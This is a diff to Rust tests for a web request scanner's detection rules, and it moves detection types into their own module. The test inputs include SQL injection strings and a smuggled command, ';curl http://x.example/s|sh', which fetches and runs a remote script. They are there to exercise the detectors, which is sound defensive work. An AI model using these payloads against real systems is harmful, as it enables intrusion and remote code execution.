@@ -1,8 +1,9 @@
 //! Do the rules find what they say, and leave the rest alone?
 
 use super::category::Severity;
+use super::detection::{Detection, Note};
 use super::rule_set::RuleSet;
-use super::scan::{Detection, Note, Scan};
+use super::scan::Scan;
 use super::signal::Signal;
 use crate::exchange::Head;
 use crate::read::place::Place;
@@ -90,7 +91,7 @@ fn one_detection_for_each_rule_and_place() {
     let many: String = (0..1000).map(|n| format!("p{n}=%27+or+1=1--&")).collect();
     let many = found(&format!("/?{many}k=%3Bcurl+http://x.example/s%7Csh"), &[]);
     assert!(many.iter().any(|line| line.starts_with("rce.")), "what fills one rule hides no other: {many:?}");
-    assert!(many.len() < super::scan::DETECTIONS);
+    assert!(many.len() < super::detection::DETECTIONS);
 }
 
 #[test]
@@ -103,12 +104,12 @@ fn no_request_is_so_full_that_the_application_is_not_heard() {
             scan.push(&rules, Field { place: example.place, name: name.as_bytes(), value, encoded: false });
         }
     }
-    assert_eq!(scan.detections().len(), super::scan::DETECTIONS);
+    assert_eq!(scan.detections().len(), super::detection::DETECTIONS);
     let field = Field { place: Place::Answer, name: b"", value: b"", encoded: false };
     for name in ["a", "a", "b"].map(|name| Some(name.to_owned())) {
         scan.note_as(&rules, Signal::ApplicationEvent, field, Note { name, ..Note::default() });
     }
-    assert_eq!(scan.detections().len(), super::scan::DETECTIONS + 2);
+    assert_eq!(scan.detections().len(), super::detection::DETECTIONS + 2);
 }
 
 #[test]
@@ -171,7 +172,7 @@ fn what_comes_after_the_last_place_for_detections_is_counted() {
         scan.push(&rules, field);
     };
     let mut all = EXAMPLES.iter().flat_map(|one| one.matches.iter().map(move |text| (one, *text))).enumerate();
-    while scan.detections().len() < super::scan::DETECTIONS {
+    while scan.detections().len() < super::detection::DETECTIONS {
         let Some((number, (example, text))) = all.next() else { panic!("too few examples") };
         push(&mut scan, number, example, text);
     }
@@ -179,7 +180,7 @@ fn what_comes_after_the_last_place_for_detections_is_counted() {
     push(&mut scan, 1, &EXAMPLES[0], "five.");
     push(&mut scan, 2, &EXAMPLES[0], "' or 1=1-- ");
     assert_eq!((scan.take_unseen(), scan.take_unseen()), (16, 0));
-    assert_eq!(scan.detections().len(), super::scan::DETECTIONS);
+    assert_eq!(scan.detections().len(), super::detection::DETECTIONS);
 }
 
 /// Rules with an example that text around it hides, and why that is meant. A rule that is not here must find its examples
@@ -332,7 +333,7 @@ fn hostile_values_cost_what_their_length_says() {
         let mut body = read::Body::new(&head, 1 << 20);
         body.push(text.as_bytes(), &mut |field| scan.push(&rules, field));
         body.finish(&mut |field| scan.push(&rules, field));
-        assert!(scan.detections().len() <= super::scan::DETECTIONS);
+        assert!(scan.detections().len() <= super::detection::DETECTIONS);
     }
 }
 
